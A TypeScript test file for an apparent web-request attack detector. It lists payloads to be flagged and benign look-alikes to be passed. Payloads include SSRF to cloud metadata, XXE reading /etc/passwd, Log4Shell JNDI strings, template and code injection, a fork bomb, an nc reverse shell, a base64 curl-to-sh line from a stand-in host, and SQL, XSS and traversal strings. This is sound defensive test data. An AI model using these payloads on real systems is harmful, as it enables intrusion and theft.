import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { INDICATOR, type Indicator } from "@vedette/semconv";
import { readSettings } from "../settings.ts";
import { inspectFileName, inspectRequest } from "./inspect-request.ts";
import { inspectName, inspectValue } from "./inspect-value.ts";
import { tellingWords } from "./telling-words.ts";

const settings = { ...readSettings({}).settings.inspection, maxMilliseconds: 10_000 };

/** What each class is seen in, and what is so near to it that a hasty pattern would see it there as well. */
const CASES: readonly {
  readonly indicator: Indicator;
  readonly seen: readonly string[];
  readonly near: readonly string[];
}[] = [
  {
    indicator: INDICATOR.ssrf,
    seen: [
      "http://169.254.169.254/latest/meta-data/",
      "http://metadata.google.internal/computeMetadata/v1/",
      "https://localhost:8443/admin",
      "http://127.1/",
      "http://2130706433/",
      "http://0x7f000001/",
      "http://0177.0.0.1/",
      "http://[::1]/",
      "http://[::ffff:127.0.0.1]/",
      "http://[::ffff:a9fe:a9fe]/",
      "http://[fd00::1]/",
      "http://10.0.0.8:9200/_search",
      "http://192.168.1.1",
      "http://①②⑦.⓪.⓪.①/",
      "http://127.0.0.1.nip.io/",
      "http://user@127.0.0.1/",
      "http://shop.example#@127.0.0.1/",
      "gopher://x.example:70/_GET",
      "dict://127.0.0.1:11211/stat",
      "jar:http://x.example/a.jar!/",
      "http://198.51.100.7/shell.php",
      "localhost/admin",
      "kubernetes.default.svc.cluster.local/",
    ],
    near: [
      "https://shop.example/items/1?ref=http",
      "http://198.51.100.7/",
      "http://11.22.33.44/picture.png",
      "http://172.32.0.1/",
      "http://169.253.1.1/",
      "http://[2001:db8::1]/",
      "localhost",
      "my localhost, as it was",
      "mylocalhost.example/",
      "10.0.0.8",
      "2130706433",
      "user@127.example",
      "https://medium.example/@127/the-story",
      "mailto:ada@shop.example",
      "note: 10.0 is more than 9.9",
    ],
  },
  {
    indicator: INDICATOR.nosqlInjection,
    seen: [
      '{"$where":"sleep(1000)"}',
      '{"user":{"$ne":null}}',
      '{ "age": { $gt: "" } }',
      "'||this.password=='x",
      "';return true;var a='",
      "db.users.find({})",
      "0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)",
    ],
    near: [
      '{"price":"$5","total":1}',
      "costs $in total",
      "db design, find a course",
      "this is == that",
      "[$100]",
      "new date please",
      "$eq",
    ],
  },
  {
    indicator: INDICATOR.xxe,
    seen: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!ENTITY % p SYSTEM "http://x.example/p.dtd">',
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
      '<!DOCTYPE a PUBLIC "x" "http://x.example/a.dtd">',
    ],
    near: [
      "<!DOCTYPE html>",
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
      '<?xml version="1.0" encoding="UTF-8"?><a/>',
      "the entity system of our group",
    ],
  },
  {
    indicator: INDICATOR.templateInjection,
    seen: [
      "{{7*7}}",
      "${7*7}",
      "#{7*7}",
      "<%= 7*7 %>",
      "{{config.__class__.__init__.__globals__}}",
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>',
      "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
      "@{[system 'id']}",
      "{{constructor.constructor('return 1')()}}",
    ],
    near: [
      "{{username}}",
      "${name}",
      "#{title}",
      "<%= title %>",
      "{7*7}",
      "[[ a link ]]",
      '{"array":[1,2,3]}',
      "a {b} c",
      "100% {sure}",
    ],
  },
  {
    indicator: INDICATOR.prototypePollution,
    seen: [
      "__proto__",
      "__proto__[admin]",
      "a[__proto__][b]",
      "a.__proto__.b",
      "constructor.prototype.x",
      "a[constructor][prototype]",
      '{"a":{"__proto__":{"b":1}}}',
    ],
    near: [
      "proto",
      "constructor",
      "the constructor of a prototype",
      "has a key called __proto__ somewhere",
      "my_proto_type",
      "__typename",
    ],
  },
  {
    indicator: INDICATOR.jndiLookup,
    seen: [
      "${jndi:ldap://x.example/a}",
      "${${lower:j}ndi:${lower:l}dap://x.example/a}",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
      "${${env:A:-j}ndi${env:B:-:}${env:C:-l}dap://x.example}",
      "$\\u007bjndi:ldap://x.example/a}",
      "&#36;&#123;jndi:dns://x.example}",
      "%24%7Bjndi:ldap://x.example/a%7D",
    ],
    near: ["${name}", "${user.name:-nobody}", "jndi", "read about jndi: it is a directory interface", "${a}: ${b}"],
  },
  {
    indicator: INDICATOR.codeInjection,
    seen: [
      "<?php system($_GET['c']); ?>",
      "eval($_POST[1])",
      "base64_decode('aWQ=')",
      "${@a}(10)",
      "require('child_process').exec('id')",
      "process.mainModule.require('fs')",
      "(system)('id');",
      "java.lang.Runtime",
      "__import__('os').system('id')",
      "Kernel.exec('id')",
      "#_memberAccess['allowStaticMethodAccess']=true",
    ],
    near: [
      "<?xml version='1.0'?>",
      "the system (and its parts) is down",
      "executor() pattern",
      "java lang courses",
      "a process of many steps",
      "touch (it)",
      "com.example.app",
      "org chart",
      "$5 (five)",
      "glob (n.): a drop",
      "wait while (almost) done",
    ],
  },
  {
    indicator: INDICATOR.unsafeDeserialization,
    seen: [
      'O:8:"stdClass":1:{s:1:"a";i:2;}',
      "rO0ABXNyABFqYXZh",
      "_$$ND_FUNC$$_function(){}",
      "!!python/object/new:os.system [id]",
      '{"@type":"com.sun.rowset.JdbcRowSetImpl"}',
    ],
    near: [
      "O:8",
      "ro0abxnyabfqyxzh",
      'a:1:{i:0;s:1:"b";}',
      "python/object",
      "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo",
    ],
  },
  {
    indicator: INDICATOR.crlfInjection,
    seen: [
      "x\r\nSet-Cookie: a=b",
      "x\nLocation: https://x.example",
      "\r\nRCPT TO:<a@b.example>",
      "a\r\nGET /admin HTTP/1.1",
    ],
    near: [
      "Subject: hello",
      "first line\nsecond line: more",
      "a list\n- from: here\n- to: there",
      "Dear all,\r\nquit asking",
    ],
  },
  {
    indicator: INDICATOR.commandInjection,
    seen: [
      "c''at /etc/passwd",
      "w'h'o'am'i",
      "cat$IFS$9/etc/passwd",
      "{cat,/etc/passwd}",
      "/???/b??h -c id",
      "/bin/c[a]t /etc/passwd",
      ":(){ :|:& };:",
      "alias x=id",
      "for %i in (*) do del %i",
      "powershell -enc AAAA",
      "time whoami",
      "x|n\\c -e /bin/sh",
      "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3guc2ggfCBzaA==",
    ],
    near: [
      "O'Keefe's",
      "cat food; dog food",
      "find x for y",
      "kill time",
      "ls 300 lexus",
      "time is of the essence",
      "if all else fails call grandma",
      "Me, you and / or them; who's who",
      "tar is a dark liquid",
      "what is bash?",
      "R&D; set up",
      "node.js & npm",
    ],
  },
  {
    indicator: INDICATOR.sqlInjection,
    seen: [
      "A 'OR' B",
      "x'collate nocase--",
      "1.e(ascii 1.e(substring(1.e(select password from users)))",
      "1)::int",
      "' or '{\"a\":1}'::jsonb @> '{\"a\":1}' --",
      "SELECT/**/name/**/FROM/**/users",
      "１' ｏｒ '１'＝'１",
      "information_schema.tables",
      "1' or 1=1#",
    ],
    near: [
      "rock 'n' roll & 'jazz' - 50% off!",
      'He said "no" and "yes" or "maybe"',
      "SELECT your favourite FROM our menu",
      "and it is totally fine",
      "when the item is shown, when it is hidden, then what?",
      "C'est l'homme d'affaires qui n'a rien dit (ou presque) ; l'autre, d'ailleurs, s'en va",
      "L'ho visto all'uscita dell'ufficio: un'altra volta & poi basta -- davvero",
      "It's 5 o'clock; don't be late (or else) & bring John's book = fun",
      "let's create table decorations; insert coins into slot",
      "f'(x) = 2x",
      "the '90s and '80s",
      'SMALL "&" SIGN',
    ],
  },
  {
    indicator: INDICATOR.xss,
    seen: [
      '<p style="background:url(x)">',
      "</textarea><b>",
      "[].sort.call`${alert}1`",
      "self['alert'](1)",
      "j&Tab;a&Tab;v&Tab;ascript:alert(1)",
      "＜script＞alert(1)＜/script＞",
      "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
    near: [
      "<b>bold</b> and <i>more</i>",
      "document.cookie is not shown in some of them",
      "a <- b",
      "x > y",
      "<3 you",
      '<table width="99%">',
    ],
  },
  {
    indicator: INDICATOR.pathTraversal,
    seen: ["/.//././/./x", "..\\secret.txt", "php://stdout", "/proc/sys/kernel", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"],
    near: ["a/../b", "foo../1234", "../images/logo.png", "...", "1/./2", "C:\\Users\\ada", "c:note"],
  },
];

const look = (value: string): readonly string[] =>
  inspectRequest("/s", `q=${encodeURIComponent(value)}`, {}, settings).findings.map(({ indicator }) => indicator);

describe.each(CASES)("$indicator", ({ indicator, seen, near }) => {
  it.each(seen)("is seen in %j", (value) => {
    expect([...inspectName(value), ...look(value)]).toContain(indicator);
  });

  it.each(near)("is not seen in %j, nor anything else", (value) => {
    expect(look(value).filter((found) => found === indicator)).toEqual([]);
  });
});

describe("the operators of a document database", () => {
  it.each(["user[$ne]", "a[b][$gt]", "$where", "filter.$or", "user__profile__name__startswith"])(
    "are seen in the name %j",
    (name) => {
      expect(inspectRequest("/", `${name}=1`, {}, settings).findings[0]).toMatchObject({
        indicator: INDICATOR.nosqlInjection,
        location: "query",
        parameter: name,
      });
    },
  );

  it.each(["filter[name]", "price__gte", "a$b", "$", "user_name"])("are not seen in the name %j", (name) => {
    expect(inspectRequest("/", `${name}=1`, {}, settings).findings).toEqual([]);
  });
});

describe("the name of an uploaded file", () => {
  it.each(["shell.php", "a.PHTML", "x.jsp.png", ".htaccess", "a.php%00.png", "../../x.txt"])("%j is told", (name) => {
    expect(inspectFileName(decodeURIComponent(name.replace("%00", "%2500")))).not.toEqual([]);
  });

  it.each(["photo.png", "report.pdf", "O'Brien & Sons.docx", "a.b.c.tar.gz", "jasper.txt", "sessions.txt"])(
    "%j is not",
    (name) => {
      expect(inspectFileName(name)).toEqual([]);
    },
  );
});

describe("any value", () => {
  const PIECES = fc.array(
    fc.oneof(
      fc.constantFrom(
        "'",
        '"',
        "`",
        "<",
        ">",
        "${",
        "{{",
        "}}",
        "(",
        ")",
        "%",
        "\\",
        "/",
        "..",
        ";",
        "|",
        "&",
        "\n",
        "=",
        "select",
        "union",
        " or ",
        "http://",
        "[",
        "]",
        "__proto__",
        "#",
        "--",
        "javascript:",
        "\u0000",
        "é",
        "＜",
        "\ud800",
      ),
      fc.string({ maxLength: 6 }),
    ),
    { maxLength: 24 },
  );

  it("is judged without an exception, and the same each time", () => {
    fc.assert(
      fc.property(PIECES, (pieces) => {
        const value = pieces.join("");
        expect(inspectValue(value)).toEqual(inspectValue(value));
      }),
      { numRuns: 3000 },
    );
  });

  it("is judged the same before and after its encoding, so that what is acquitted unread is what would be acquitted", () => {
    fc.assert(
      fc.property(PIECES, (pieces) => {
        const value = pieces.join("").toWellFormed();
        const seen = new Set(look(value));
        for (const indicator of inspectValue(value)) expect(seen, JSON.stringify(value)).toContain(indicator);
      }),
      { numRuns: 3000 },
    );
  });

  it("made of plain words is acquitted, unless the words are telling", () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[a-z]{1,9}$/), { maxLength: 8 }), (words) => {
        const value = words.join(" ");
        if (tellingWords(value) === 0) expect(inspectValue(value)).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});
